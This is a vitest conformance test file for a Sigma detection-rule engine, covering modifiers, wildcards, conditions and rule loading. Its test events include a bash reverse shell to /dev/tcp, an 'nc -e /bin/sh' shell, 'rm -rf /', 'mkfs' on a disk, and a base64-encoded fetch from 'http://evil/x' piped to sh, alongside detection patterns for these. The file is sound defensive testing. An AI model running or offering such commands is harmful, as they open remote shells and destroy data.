/**
 * Conformance with the Sigma specification v2.1: every modifier and every condition
 * form. Each check runs on both the compiled engine and the naive interpreter, which
 * must agree (see helpers.compile).
 */
import { describe, expect, it } from 'vitest';
import { FieldMapping } from '../../src/detection/index.js';
import { parseWildcards, STAR, QMARK } from '../../src/detection/values.js';
import { compile, load, loadErrors, ruleYaml } from './helpers.js';

describe('values: case, wildcards and escaping', () => {
  it('matches case-insensitively by default', () => {
    const m = compile(`selection:\n    Image: /usr/bin/CURL\ncondition: selection`);
    expect(m({ Image: '/usr/bin/curl' })).toBe(true);
    expect(m({ Image: '/USR/BIN/Curl' })).toBe(true);
    expect(m({ Image: '/usr/bin/curl2' })).toBe(false);
    expect(m({})).toBe(false);
  });

  it('cased makes values case-sensitive', () => {
    const m = compile(`selection:\n    CommandLine|cased|contains: ' -O '\ncondition: selection`);
    expect(m({ CommandLine: 'wget -O x' })).toBe(true);
    expect(m({ CommandLine: 'wget -o x' })).toBe(false);
    const e = compile(`selection:\n    Image|cased: /bin/Sh\ncondition: selection`);
    expect(e({ Image: '/bin/Sh' })).toBe(true);
    expect(e({ Image: '/bin/sh' })).toBe(false);
  });

  it('* matches any sequence and ? exactly one character', () => {
    const m = compile(`selection:\n    CommandLine: 'curl * -o /tmp/?'\ncondition: selection`);
    expect(m({ CommandLine: 'curl http://x -o /tmp/a' })).toBe(true);
    expect(m({ CommandLine: 'curl  -o /tmp/a' })).toBe(true);
    expect(m({ CommandLine: 'curl http://x -o /tmp/ab' })).toBe(false);
    expect(m({ CommandLine: 'curl http://x -o /tmp/' })).toBe(false);
    const s = compile(`selection:\n    Image: '*'\ncondition: selection`);
    expect(s({ Image: '' })).toBe(true);
    expect(s({})).toBe(false);
  });

  it('parses escapes exactly as the spec examples', () => {
    // spec: "\\*" (YAML-level '\*') is a literal star
    expect(parseWildcards('a\\*b')).toEqual(['a*b']);
    expect(parseWildcards('a\\?b')).toEqual(['a?b']);
    // a plain backslash not followed by a wildcard stays: '\a' is '\a'
    expect(parseWildcards('C:\\a')).toEqual(['C:\\a']);
    // '\\a' is a single backslash too (escaped backslash)
    expect(parseWildcards('C:\\\\a')).toEqual(['C:\\a']);
    // '\\*' is a backslash followed by a wildcard
    expect(parseWildcards('C:\\\\*')).toEqual(['C:\\', STAR]);
    // '\\\*' is a backslash and a literal star
    expect(parseWildcards('C:\\\\\\*')).toEqual(['C:\\*']);
    // three or four backslashes are a double backslash; four recommended
    expect(parseWildcards('\\\\\\\\')).toEqual(['\\\\']);
    expect(parseWildcards('\\\\\\')).toEqual(['\\\\']);
    expect(parseWildcards('a?')).toEqual(['a', QMARK]);
  });

  it('applies the escaping rules when matching', () => {
    const lit = compile(String.raw`selection:
    CommandLine: 'echo \*'
condition: selection`);
    expect(lit({ CommandLine: 'echo *' })).toBe(true);
    expect(lit({ CommandLine: 'echo abc' })).toBe(false);
    const bsWild = compile(String.raw`selection:
    CommandLine: 'C:\\*'
condition: selection`);
    expect(bsWild({ CommandLine: 'C:\\Windows' })).toBe(true);
    expect(bsWild({ CommandLine: 'C:Windows' })).toBe(false);
    const bsStar = compile(String.raw`selection:
    CommandLine: 'C:\\\*'
condition: selection`);
    expect(bsStar({ CommandLine: 'C:\\*' })).toBe(true);
    expect(bsStar({ CommandLine: 'C:\\x' })).toBe(false);
    const plainBs = compile(String.raw`selection:
    CommandLine: 'C:\a'
condition: selection`);
    expect(plainBs({ CommandLine: 'C:\\a' })).toBe(true);
    const q = compile(String.raw`selection:
    CommandLine|contains: 'what\?'
condition: selection`);
    expect(q({ CommandLine: 'say what?' })).toBe(true);
    expect(q({ CommandLine: 'say whatx' })).toBe(false);
  });

  it('handles null, empty and numeric values', () => {
    const n = compile(`selection:\n    ParentImage: null\ncondition: selection`);
    expect(n({ Image: '/x' })).toBe(true);
    expect(n({ ParentImage: null })).toBe(true);
    expect(n({ ParentImage: '' })).toBe(false);
    const e = compile(`selection:\n    CurrentDirectory: ''\ncondition: selection`);
    expect(e({ CurrentDirectory: '' })).toBe(true);
    expect(e({ CurrentDirectory: '/' })).toBe(false);
    expect(e({})).toBe(false);
    const i = compile(`selection:\n    LogonId: 0\ncondition: selection`);
    expect(i({ LogonId: 0 })).toBe(true);
    expect(i({ LogonId: '0' })).toBe(true);
    expect(i({ LogonId: 1000 })).toBe(false);
    expect(i({ LogonId: '' })).toBe(false);
    const s = compile(`selection:\n    DestinationPort: '888'\ncondition: selection`);
    expect(s({ DestinationPort: 888 })).toBe(true);
    expect(s({ DestinationPort: 8888 })).toBe(false);
    const b = compile(`selection:\n    Initiated: 'true'\ncondition: selection`);
    expect(b({ Initiated: true })).toBe(true);
    expect(b({ Initiated: 'true' })).toBe(true);
    expect(b({ Initiated: false })).toBe(false);
    const yb = compile(`selection:\n    Initiated: true\ncondition: selection`);
    expect(yb({ Initiated: 'True' })).toBe(true);
    expect(yb({ Initiated: 'false' })).toBe(false);
  });

  it('matches arrays element-wise', () => {
    const m = compile(`selection:\n    vigil.argv|contains: '--inject'\ncondition: selection`);
    expect(m({ vigil: { argv: ['prog', '--inject=1'] } })).toBe(true);
    expect(m({ vigil: { argv: ['prog', '--safe'] } })).toBe(false);
  });
});

describe('selections: maps, lists, keywords', () => {
  it('map = AND, list = OR, list of maps = OR', () => {
    const m = compile(`selection:
    Image|endswith: /curl
    CommandLine|contains:
        - ' -d '
        - ' --data '
condition: selection`);
    expect(m({ Image: '/usr/bin/curl', CommandLine: 'curl --data x' })).toBe(true);
    expect(m({ Image: '/usr/bin/curl', CommandLine: 'curl x' })).toBe(false);
    expect(m({ Image: '/usr/bin/wget', CommandLine: 'wget -d x' })).toBe(false);
    const l = compile(`selection:
    - Image|endswith: /nc
    - CommandLine|contains: '/dev/tcp/'
condition: selection`);
    expect(l({ Image: '/bin/nc' })).toBe(true);
    expect(l({ CommandLine: 'bash -i >& /dev/tcp/1.2.3.4/4444' })).toBe(true);
    expect(l({ Image: '/bin/bash', CommandLine: 'bash' })).toBe(false);
  });

  it('all makes a list AND', () => {
    const m = compile(`selection:\n    CommandLine|contains|all:\n        - 'chmod'\n        - '+x'\ncondition: selection`);
    expect(m({ CommandLine: 'chmod +x a' })).toBe(true);
    expect(m({ CommandLine: 'chmod 700 a' })).toBe(false);
  });

  it('keyword selections search every field (contains)', () => {
    const m = compile(`keywords:\n    - 'rm -rf'\n    - 'mkfs'\ncondition: keywords`);
    expect(m({ CommandLine: 'sudo rm -rf /' })).toBe(true);
    expect(m({ ParentCommandLine: 'MKFS.ext4 /dev/sda' })).toBe(true);
    expect(m({ CommandLine: 'ls' })).toBe(false);
  });

  it("'|all' keyword blocks need every keyword", () => {
    const m = compile(`keywords:\n    '|all':\n        - 'base64'\n        - '-d'\ncondition: keywords`);
    expect(m({ CommandLine: 'base64 -d payload' })).toBe(true);
    expect(m({ CommandLine: 'base64 payload' })).toBe(false);
    // keywords may be spread over fields
    expect(m({ Image: '/usr/bin/base64', CommandLine: 'x -d' })).toBe(true);
  });
});

describe('modifiers', () => {
  it('contains / startswith / endswith, with inner wildcards', () => {
    const c = compile(`selection:\n    CommandLine|contains: 'a*b'\ncondition: selection`);
    expect(c({ CommandLine: 'xxaYYbzz' })).toBe(true);
    expect(c({ CommandLine: 'xxbYYazz' })).toBe(false);
    const s = compile(`selection:\n    CommandLine|startswith: 'sudo '\ncondition: selection`);
    expect(s({ CommandLine: 'SUDO ls' })).toBe(true);
    expect(s({ CommandLine: 'x sudo ls' })).toBe(false);
    const e = compile(`selection:\n    Image|endswith: '/s?'\ncondition: selection`);
    expect(e({ Image: '/bin/sh' })).toBe(true);
    expect(e({ Image: '/bin/ssh' })).toBe(false);
  });

  it('exists', () => {
    const t = compile(`selection:\n    ParentImage|exists: true\ncondition: selection`);
    expect(t({ ParentImage: '' })).toBe(true);
    expect(t({ ParentImage: null })).toBe(true);
    expect(t({})).toBe(false);
    const f = compile(`selection:\n    ParentImage|exists: false\ncondition: selection`);
    expect(f({})).toBe(true);
    expect(f({ ParentImage: '/x' })).toBe(false);
    expect(loadErrors(`selection:\n    ParentImage|exists: maybe\ncondition: selection`)[0]).toMatch(/boolean/);
  });

  it('neq (strings, numbers, lists)', () => {
    const s = compile(`selection:\n    User|neq: root\ncondition: selection`);
    expect(s({ User: 'alice' })).toBe(true);
    expect(s({ User: 'ROOT' })).toBe(false);
    const n = compile(`selection:\n    LogonId|neq: 0\ncondition: selection`);
    expect(n({ LogonId: 1000 })).toBe(true);
    expect(n({ LogonId: 0 })).toBe(false);
    const l = compile(`selection:\n    User|neq:\n        - root\n        - daemon\ncondition: selection`);
    expect(l({ User: 'bob' })).toBe(true);
    expect(l({ User: 'daemon' })).toBe(false);
  });

  it('windash expands -, /, en dash, em dash, horizontal bar', () => {
    const m = compile(`selection:\n    CommandLine|windash|contains: ' -exec '\ncondition: selection`);
    for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(m({ CommandLine: `find . ${d}exec rm` })).toBe(true);
    expect(m({ CommandLine: 'find . exec rm' })).toBe(false);
    // not inside words
    const w = compile(`selection:\n    CommandLine|windash: 'a-b'\ncondition: selection`);
    expect(w({ CommandLine: 'a-b' })).toBe(true);
    expect(w({ CommandLine: 'a/b' })).toBe(false);
  });

  it('re with sub-modifiers and (?i) inline flags', () => {
    const r = compile(`selection:\n    CommandLine|re: '\\s-O\\s'\ncondition: selection`);
    expect(r({ CommandLine: 'wget -O /tmp/x' })).toBe(true);
    expect(r({ CommandLine: 'wget -o /tmp/x' })).toBe(false); // case-sensitive by default
    const i = compile(`selection:\n    CommandLine|re|i: 'BASE64 -D'\ncondition: selection`);
    expect(i({ CommandLine: 'base64 -d' })).toBe(true);
    const inl = compile(`selection:\n    CommandLine|re: '(?i)^curl.*\\.sh$'\ncondition: selection`);
    expect(inl({ CommandLine: 'CURL http://x/a.SH' })).toBe(true);
    expect(inl({ CommandLine: 'wget http://x/a.sh' })).toBe(false);
    const m = compile(`selection:\n    CommandLine|re|m: '^two$'\ncondition: selection`);
    expect(m({ CommandLine: 'one\ntwo\nthree' })).toBe(true);
    const nm = compile(`selection:\n    CommandLine|re: '^two$'\ncondition: selection`);
    expect(nm({ CommandLine: 'one\ntwo\nthree' })).toBe(false);
    const s = compile(`selection:\n    CommandLine|re|s: 'a.b'\ncondition: selection`);
    expect(s({ CommandLine: 'a\nb' })).toBe(true);
    const ns = compile(`selection:\n    CommandLine|re: 'a.b'\ncondition: selection`);
    expect(ns({ CommandLine: 'a\nb' })).toBe(false);
    const pn = compile(`selection:\n    CommandLine|re: '(?P<x>ab)c'\ncondition: selection`);
    expect(pn({ CommandLine: 'xabc' })).toBe(true);
  });

  it('re refusals are reported at load', () => {
    expect(loadErrors(`selection:\n    CommandLine|re: 'a(?i)b'\ncondition: selection`)[0]).toMatch(/inline regex flags/);
    expect(loadErrors(`selection:\n    CommandLine|re: 'a(b'\ncondition: selection`)[0]).toMatch(/invalid regular expression/);
    expect(loadErrors(`selection:\n    CommandLine|re: '(?>a)'\ncondition: selection`)[0]).toMatch(/atomic/);
    expect(loadErrors(`selection:\n    CommandLine|re: 'a++'\ncondition: selection`)[0]).toMatch(/possessive/);
    expect(loadErrors(`selection:\n    CommandLine|re: '((a+)\\2)+$'\ncondition: selection`)[0]).toMatch(/catastrophic/);
    expect(loadErrors(`selection:\n    CommandLine|i: 'x'\ncondition: selection`)[0]).toMatch(/must follow 're'/);
  });

  it('base64 and base64offset', () => {
    const b = compile(`selection:\n    CommandLine|base64: 'whoami'\ncondition: selection`);
    expect(b({ CommandLine: 'd2hvYW1p' })).toBe(true);
    expect(b({ CommandLine: 'x d2hvYW1p' })).toBe(false);
    const bc = compile(`selection:\n    CommandLine|base64|contains: 'whoami'\ncondition: selection`);
    expect(bc({ CommandLine: 'echo d2hvYW1p | base64 -d' })).toBe(true);
    const o = compile(`selection:\n    CommandLine|base64offset|contains: 'http://'\ncondition: selection`);
    for (const prefix of ['', 'a', 'ab']) {
      const enc = Buffer.from(prefix + 'http://evil/x').toString('base64');
      expect(o({ CommandLine: `echo ${enc} | base64 -d | sh` })).toBe(true);
    }
    expect(o({ CommandLine: `echo ${Buffer.from('https://ok/').toString('base64')}` })).toBe(false);
  });

  it('utf16le / wide / utf16be / utf16 with base64', () => {
    const le = compile(`selection:\n    CommandLine|utf16le|base64offset|contains: 'cmd'\ncondition: selection`);
    expect(le({ CommandLine: Buffer.from('run cmd now', 'utf16le').toString('base64') })).toBe(true);
    const wide = compile(`selection:\n    CommandLine|wide|base64: 'cmd'\ncondition: selection`);
    expect(wide({ CommandLine: 'YwBtAGQA' })).toBe(true);
    const be = compile(`selection:\n    CommandLine|utf16be|base64: 'cmd'\ncondition: selection`);
    expect(be({ CommandLine: Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]).toString('base64') })).toBe(true);
    const bom = compile(`selection:\n    CommandLine|utf16|base64: 'cmd'\ncondition: selection`);
    expect(bom({ CommandLine: Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]).toString('base64') })).toBe(true);
    expect(loadErrors(`selection:\n    CommandLine|base64|utf16le: 'cmd'\ncondition: selection`)[0]).toMatch(/before base64/);
  });

  it('lt lte gt gte on numbers and numeric strings', () => {
    const m = compile(`selection:\n    DestinationPort|gte: 1024\n    SourcePort|lt: 100\ncondition: selection`, { category: 'network_connection' });
    expect(m({ DestinationPort: 1024, SourcePort: 99 })).toBe(true);
    expect(m({ DestinationPort: '4444', SourcePort: '5' })).toBe(true);
    expect(m({ DestinationPort: 1023, SourcePort: 5 })).toBe(false);
    expect(m({ DestinationPort: 2000, SourcePort: 100 })).toBe(false);
    expect(m({ DestinationPort: 'abc', SourcePort: 5 })).toBe(false);
    const g = compile(`selection:\n    ProcessId|gt: 1\n    ParentProcessId|lte: 1\ncondition: selection`);
    expect(g({ ProcessId: 2, ParentProcessId: 1 })).toBe(true);
    expect(g({ ProcessId: 1, ParentProcessId: 1 })).toBe(false);
    expect(loadErrors(`selection:\n    ProcessId|gt: abc\ncondition: selection`)[0]).toMatch(/numeric/);
  });

  it('time modifiers: minute hour day week month year', () => {
    const ev = { timestamp: '2024-03-07T22:45:10.000Z' }; // Thursday, ISO week 10
    for (const [mod, v] of [['minute', 45], ['hour', 22], ['day', 7], ['week', 10], ['month', 3], ['year', 2024]] as const) {
      const m = compile(`selection:\n    timestamp|${mod}: ${v}\ncondition: selection`);
      expect(m(ev), mod).toBe(true);
      expect(m({ timestamp: '2023-01-01T00:00:00Z' }), mod).toBe(false);
    }
    const night = compile(`selection:\n    timestamp|hour|gte: 22\ncondition: selection`);
    expect(night(ev)).toBe(true);
    expect(night({ timestamp: '2024-03-07T08:00:00Z' })).toBe(false);
  });

  it('cidr for IPv4 and IPv6', () => {
    const m = compile(`selection:\n    DestinationIp|cidr:\n        - 10.0.0.0/8\n        - 192.168.1.0/24\n        - 'fd00::/8'\ncondition: selection`, { category: 'network_connection' });
    expect(m({ DestinationIp: '10.1.2.3' })).toBe(true);
    expect(m({ DestinationIp: '192.168.1.77' })).toBe(true);
    expect(m({ DestinationIp: '192.168.2.1' })).toBe(false);
    expect(m({ DestinationIp: 'fd12:3456::1' })).toBe(true);
    expect(m({ DestinationIp: 'fe80::1' })).toBe(false);
    expect(m({ DestinationIp: '::ffff:10.9.9.9' })).toBe(true);
    expect(m({ DestinationIp: 'not-an-ip' })).toBe(false);
    const h = compile(`selection:\n    DestinationIp|cidr: '2001:db8::/32'\ncondition: selection`, { category: 'network_connection' });
    expect(h({ DestinationIp: '2001:db8:0:0:1::1' })).toBe(true);
    expect(h({ DestinationIp: '2001:db9::1' })).toBe(false);
    expect(loadErrors(`selection:\n    DestinationIp|cidr: 10.0.0.0/33\ncondition: selection`)[0]).toMatch(/prefix length/);
  });

  it('expand with placeholders from config', () => {
    const placeholders = { admin_users: ['root', 'admin*'] };
    const m = compile(`selection:\n    User|expand: '%admin_users%'\ncondition: selection`, { placeholders });
    expect(m({ User: 'root' })).toBe(true);
    expect(m({ User: 'administrator' })).toBe(true);
    expect(m({ User: 'bob' })).toBe(false);
    const p = compile(`selection:\n    Image|expand|startswith: '%dirs%/'\ncondition: selection`, { placeholders: { dirs: ['/tmp', '/dev/shm'] } });
    expect(p({ Image: '/dev/shm/x' })).toBe(true);
    expect(p({ Image: '/usr/bin/x' })).toBe(false);
    expect(loadErrors(`selection:\n    User|expand: '%nope%'\ncondition: selection`)[0]).toMatch(/placeholder '%nope%' is not defined/);
  });

  it('fieldref compares two fields', () => {
    const m = compile(`selection:\n    ParentImage|fieldref: Image\ncondition: selection`);
    expect(m({ Image: '/bin/bash', ParentImage: '/BIN/BASH' })).toBe(true);
    expect(m({ Image: '/bin/bash', ParentImage: '/bin/sh' })).toBe(false);
    expect(m({ ParentImage: '/bin/sh' })).toBe(false);
    const sw = compile(`selection:\n    CommandLine|fieldref|startswith: Image\ncondition: selection`);
    expect(sw({ Image: '/bin/ls', CommandLine: '/bin/ls -la' })).toBe(true);
    expect(sw({ Image: '/bin/ls', CommandLine: 'ls -la' })).toBe(false);
    const neq = compile(`selection:\n    User|fieldref|neq: ParentUser\ncondition: selection`);
    expect(neq({ User: 'root', ParentUser: 'bob' })).toBe(true);
    expect(neq({ User: 'root', ParentUser: 'root' })).toBe(false);
  });

  it('unknown and conflicting modifiers are refused', () => {
    expect(loadErrors(`selection:\n    Image|endwith: x\ncondition: selection`)[0]).toMatch(/unknown modifier 'endwith'/);
    expect(loadErrors(`selection:\n    Image|contains|startswith: x\ncondition: selection`)[0]).toMatch(/cannot be combined/);
    expect(loadErrors(`selection:\n    Image|re|contains: x\ncondition: selection`)[0]).toMatch(/cannot be combined/);
  });
});

describe('conditions', () => {
  const det = `a:
    Image: a
b:
    Image: b
c:
    CommandLine: c
_hidden:
    User: hidden
sel_1:
    CurrentDirectory: s1
sel_2:
    User: s2
`;
  const ev = (img?: string, cmd?: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({ Image: img, CommandLine: cmd, ...extra });

  it('and / or / not / parentheses with correct precedence', () => {
    const m1 = compile(det + 'condition: a or b and c');
    expect(m1(ev('a'))).toBe(true); // a or (b and c)
    expect(m1(ev('b'))).toBe(false);
    expect(m1(ev('b', 'c'))).toBe(true);
    const m2 = compile(det + 'condition: (a or b) and c');
    expect(m2(ev('a'))).toBe(false);
    expect(m2(ev('a', 'c'))).toBe(true);
    const m3 = compile(det + 'condition: not a and c');
    expect(m3(ev('x', 'c'))).toBe(true); // (not a) and c
    expect(m3(ev('a', 'c'))).toBe(false);
    expect(m3(ev('x', 'y'))).toBe(false);
    const m4 = compile(det + 'condition: not (a or c)');
    expect(m4(ev('x', 'y'))).toBe(true);
    expect(m4(ev('x', 'c'))).toBe(false);
    const m5 = compile(det + 'condition: not not a');
    expect(m5(ev('a'))).toBe(true);
  });

  it('1 of / all of patterns, them, and underscore identifiers', () => {
    const one = compile(det + 'condition: 1 of sel_*');
    expect(one(ev('x', 'y', { User: 's2' }))).toBe(true);
    expect(one(ev('x'))).toBe(false);
    const all = compile(det + 'condition: all of sel_*');
    expect(all(ev('x', 'y', { User: 's2' }))).toBe(false);
    expect(all(ev('x', 'y', { User: 's2', CurrentDirectory: 's1' }))).toBe(true);
    const them = compile(det + 'condition: 1 of them');
    expect(them(ev('b'))).toBe(true);
    expect(them(ev('x', 'y', { User: 'hidden' }))).toBe(false); // _hidden is excluded
    const allThem = compile(`a:\n    Image|contains: a\nb:\n    CommandLine|contains: b\n_x:\n    User: nobody\ncondition: all of them`);
    expect(allThem(ev('a', 'b'))).toBe(true); // _x not required
    expect(allThem(ev('a', 'x'))).toBe(false);
    const explicitHidden = compile(det + 'condition: a and not _hidden');
    expect(explicitHidden(ev('a', undefined, { User: 'hidden' }))).toBe(false);
    expect(explicitHidden(ev('a'))).toBe(true);
    const underscorePattern = compile(det + 'condition: 1 of _hid*');
    expect(underscorePattern(ev('x', 'y', { User: 'hidden' }))).toBe(true);
  });

  it('quantifiers bind tighter than not/and/or', () => {
    const m = compile(det + 'condition: a and not 1 of sel_*');
    expect(m(ev('a'))).toBe(true);
    expect(m(ev('a', undefined, { User: 's2' }))).toBe(false);
    const n = compile(det + 'condition: 2 of sel_* or c');
    expect(n(ev('x', 'c'))).toBe(true);
    expect(n(ev('x', 'y', { User: 's2' }))).toBe(false);
    expect(n(ev('x', 'y', { User: 's2', CurrentDirectory: 's1' }))).toBe(true);
  });

  it('a list of conditions matches when any matches', () => {
    const m = compile(det + 'condition:\n    - a and c\n    - b');
    expect(m(ev('b'))).toBe(true);
    expect(m(ev('a'))).toBe(false);
    expect(m(ev('a', 'c'))).toBe(true);
  });

  it('reports condition errors with file:line:col', () => {
    const yaml = ruleYaml(det + 'condition: a and (b or nope)');
    const rs = load(yaml);
    expect(rs.errors).toHaveLength(1);
    const e = rs.errors[0]!;
    expect(e.message).toMatch(/unknown detection identifier 'nope'/);
    const line = yaml.split('\n').findIndex((l) => l.includes('condition:')) + 1;
    expect(e.line).toBe(line);
    expect(e.col).toBe(yaml.split('\n')[line - 1]!.indexOf('nope') + 1);
    expect(loadErrors(det + 'condition: a and')[0]).toMatch(/ends early/);
    expect(loadErrors(det + 'condition: (a or b')[0]).toMatch(/missing '\)'/);
    expect(loadErrors(det + 'condition: a | count() > 5')[0]).toMatch(/correlation rule/);
    expect(loadErrors(det + 'condition: 1 of nothing_*')[0]).toMatch(/matches no detection identifier/);
    expect(loadErrors(det + 'condition: a b')[0]).toMatch(/unexpected 'b'/);
  });
});

describe('loading and reporting', () => {
  it('YAML errors carry line:col and other documents still load', () => {
    const good = ruleYaml(`selection:\n    Image: /bin/x\ncondition: selection`, { id: 'good' });
    const bad = 'title: broken\nid: bad\ndetection:\n  selection:\n    Image: [a, b\n  condition: selection\n';
    const rs = load(good); // sanity
    expect(rs.errors).toEqual([]);
    const { RuleSet } = rs.constructor as unknown as { RuleSet: never };
    void RuleSet;
    const rs2 = (rs.constructor as typeof import('../../src/detection/index.js').RuleSet).fromSources([
      { path: 'bad.yml', text: bad },
      { path: 'good.yml', text: good },
    ]);
    expect(rs2.errors.length).toBeGreaterThan(0);
    expect(rs2.errors[0]!.path).toBe('bad.yml');
    expect(rs2.errors[0]!.line).toBeGreaterThan(0);
    expect(rs2.activeCount).toBe(1);
    expect(rs2.evaluate({ category: 'process_creation', Image: '/bin/x' })).toHaveLength(1);
  });

  it('missing detection parts are named', () => {
    const rs = load('title: x\nid: x\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    selection:\n        Image: a\n');
    expect(rs.errors[0]!.message).toMatch(/no 'condition'/);
    expect(rs.errors[0]!.line).toBe(6);
  });

  it('rules without a vigil event source are inactive, not errors', () => {
    const rs = load(
      'title: aud\nid: aud\nlogsource:\n    product: linux\n    service: auditd\ndetection:\n    selection:\n        type: EXECVE\n    condition: selection\n',
    );
    expect(rs.errors).toEqual([]);
    expect(rs.inactive).toHaveLength(1);
    expect(rs.inactive[0]!.reason).toMatch(/no vigil event source \(logsource product: linux, service: auditd\)/);
  });

  it('field mapping maps Sigma fields to dotted event paths', () => {
    const mapping = new FieldMapping({ fields: { CommandLine: 'vigil.cmd' } });
    const m = compile(`selection:\n    CommandLine|contains: evil\ncondition: selection`, { mapping });
    expect(m({ vigil: { cmd: 'run evil' } })).toBe(true);
    expect(m({ CommandLine: 'run evil' })).toBe(false);
  });

  it('every matching rule fires, with the matched selections', () => {
    const text = [
      ruleYaml(`sel_img:\n    Image|endswith: /nc\nsel_cmd:\n    CommandLine|contains: ' -e '\ncondition: 1 of sel_*`, { id: 'r1' }),
      ruleYaml(`selection:\n    CommandLine|contains: '/bin/sh'\ncondition: selection`, { id: 'r2' }),
      ruleYaml(`selection:\n    CommandLine|contains: 'nothing'\ncondition: selection`, { id: 'r3' }),
    ].join('---\n');
    const rs = load(text);
    expect(rs.errors).toEqual([]);
    const alerts = rs.evaluate({ category: 'process_creation', timestamp: '2024-01-01T00:00:00Z', Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 1.2.3.4 4444' });
    expect(alerts.map((a) => a.rule_id)).toEqual(['r1', 'r2']);
    expect(alerts[0]!.matched).toEqual(['sel_img', 'sel_cmd']);
    expect(alerts[0]!).toMatchObject({ rule_title: 'Test rule r1', level: 'high', rule_path: 'test.yml', timestamp: '2024-01-01T00:00:00Z' });
  });

  it('events of other categories never meet the rule', () => {
    const m = load(ruleYaml(`selection:\n    Image|endswith: /nc\ncondition: selection`));
    expect(m.evaluate({ category: 'file_event', Image: '/bin/nc' })).toHaveLength(0);
    expect(m.evaluate({ Image: '/bin/nc' })).toHaveLength(0);
    expect(m.evaluate({ category: 'process_creation', Image: '/bin/nc' })).toHaveLength(1);
  });
});
